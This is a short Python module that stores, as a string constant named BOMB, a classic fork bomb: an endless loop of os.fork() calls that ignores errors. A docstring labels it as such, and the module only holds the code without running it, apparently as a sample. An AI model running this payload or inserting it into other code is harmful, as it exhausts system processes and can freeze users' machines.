"""A program that takes all the processes it can get, and goes on trying."""

from typing import Final

BOMB: Final = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
